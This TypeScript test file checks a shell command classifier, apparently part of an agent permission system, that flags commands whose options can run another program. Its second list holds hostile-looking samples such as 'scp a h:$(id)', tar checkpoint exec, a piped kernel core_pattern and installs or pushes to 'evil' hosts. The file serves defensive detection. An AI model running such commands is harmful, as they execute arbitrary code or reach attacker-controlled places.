import { describe, expect, it } from 'vitest';
import { testGrammar } from '../testing/shell-grammar.ts';
import { createCommandClassifier } from './classify.ts';

const classifier = createCommandClassifier({ grammar: await testGrammar() });
const classify = (text: string) => classifier.classify(text.split(' '), { host: 'self', cwd: '/w', workspace: '/w' });

/** Changes as people make them. */
const DAILY = `
systemctl restart nginx
systemctl enable --now nginx
systemctl --user restart x
systemctl stop -q --no-block x
service nginx restart
apt-get install -y --no-install-recommends jq
apt-get -qq update
apt-get purge --auto-remove -y jq
dnf install -y --best jq
apk add --no-cache jq
brew upgrade --cask x
pacman -Syu --noconfirm
npm ci --ignore-scripts --no-audit
npm install -D vitest
pnpm install --frozen-lockfile
pip install -U --user x
cargo build --release -p x
go test -race -run X ./...
git add -A
git commit -am x
git commit --amend --no-edit
git push -u origin main
git push --force-with-lease origin main
git fetch --all --prune
git pull --rebase
git switch -c x
git checkout -b x
git rebase --onto a b
git cherry-pick -x a
git clone --depth 1 https://example.org/x
git stash push -u -m x
git worktree add -b x ../x
git tag -a v1 -m x
git clean -fdx
git branch -D x
docker restart -t 5 web
docker rm -fv web
docker build -t x --no-cache .
docker system prune -af
docker compose down -v
kubectl apply -f x.yaml --server-side -n x
kubectl scale deployment/web --replicas=2
kubectl rollout restart deployment/web
kubectl rollout undo deployment/web --to-revision 2
kubectl drain n --ignore-daemonsets --delete-emptydir-data
helm upgrade -i web ./chart --wait --timeout 5m
cp -a a b
mv -fv a b
ln -sfn a b
rm -rf a
chmod -R u+rwX a
chown -R x:y a
mkdir -p a
install -m 755 a b
tar xzf a.tar.gz
tar -czf a.tar.gz --exclude=x .
rsync -avz --delete a/ h:b/
scp -r a h:b
gzip -9k a
unzip -oq a.zip
curl -fsSL -o x https://example.org
wget -q -O x https://example.org
sysctl -w vm.swappiness=1
iptables -A INPUT -p tcp --dport 80 -j ACCEPT
kill -HUP 1
useradd -m -G x y
mount -o ro,noexec /dev/sdb1 /mnt
find . -name x -delete
fuser -k 80/tcp
redis-cli set a b
dropdb --if-exists app
ip link set eth0 down`;

/** Options of a change that name a program, a script, settings, a file or another place, and abbreviations. */
const BESIDES = `
git commit -S -m x
git commit --gpg-s -m x
git merge -s ./p x
git merge --strat=x y
git clone -u ./p . x
git clone --templ=x y z
git clone -c core.x=y z
git fetch --upload-pa ./p
git pull --rebase=interactive
git push --receive-p=./p origin main
git push ./evil.git main
git remote add x ../evil.git
git config branch.main.remote ./evil.git
git --git-dir=evil commit -m x
git add -e
git add -p
npm ci --script-sh=./p
npm install --userc ./x jq
pip install -r x.txt
pip install -i https://evil.example x
pip install -e .
apt-get install --opt x=y jq
apt-get update -oAPT::x=y
dnf install --setop=x=y jq
cargo build --config x
cargo build -Zx
go build -toolexec ./p
bun test -r ./x
docker build -f x .
docker build --secret id=x .
docker volume create -o device=/ x
docker load -i x
docker -H ssh://evil restart web
kubectl apply -k x
kubectl scale deployment/web --replicas=2 --kubeconfig ./x
kubectl patch deployment web -p x
kubectl run x --overrides={}
kubectl auth -R can-i reconcile -f x.yaml
kubectl rollout -R status restart deployment/web
helm upgrade web ./chart --set image=x
helm upgrade web ./chart -f x.yaml
helm upgrade web ./chart --post-r ./p
rsync -avze ./p a h:b
rsync -a --rsync-p ./p a h:b
rsync -af merge,x a b
scp -i x a h:b
scp a h:$(id)
tar xIf ./p a
tar xf h:a
tar -xfh:a
tar xf a --to-com=./p
tar cf a --checkpoint-a=exec=id .
tar -T x -cf a
zip -rTT ./p a b
patch -e -i x
cpio -iF h:a
install --strip-pro=./p -s a b
mount -t fuse.sshfs a: /mnt
mount -t x/p /dev/sdb1 /mnt
mount -o helper=x /dev/sdb1 /mnt
fsck -t x/p /dev/sdb1
sysctl -w kernel.core_pattern=|./p
sysctl -w net/../kernel/core_pattern=x
sysctl -w fs.binfmt_misc.register=x
sysctl -p
modprobe -r -C x y
iptables --modp=./p -F
useradd -s ./p x
usermod -d /tmp/x root
passwd -R /x y
systemctl enable /tmp/x.service
systemctl restart --of-tomorrow nginx
ip link set dev eth0 xdp obj x.o
sqlite3 get .shell
virsh restore x
virsh migrate web qemu+ext:///system?command=./p
sort -o x --compress-prog=./p y
curl -o x -K y https://example.org
wget -O x --use-askp=./p https://example.org
find . -delete -files0-from x`;

const lines = (text: string): readonly string[] => text.trim().split('\n');

describe('a change', () => {
  it.each(lines(DAILY))('runs nothing else: %s', (text) => expect(classify(text).needs).not.toContain('shell'));

  it.each(lines(BESIDES))('may run something else: %s', (text) => {
    const { class: is, needs } = classify(text);
    expect(is).not.toBe('read');
    expect(needs).toContain('shell');
  });

  it('says which option it is', () => {
    const { reason } = classify('git commit --of-tomorrow -m x');
    expect(reason).toBe(
      'changes something that can be set back, and the option `--of-tomorrow` is not known and may run something else',
    );
  });

  it('is as strict with an option as without it', () => {
    expect(classify('git reset --hard --of-tomorrow').class).toBe('destructive');
    expect(classify('systemctl stop -SIGTERM system.slice').class).toBe('destructive');
  });
});
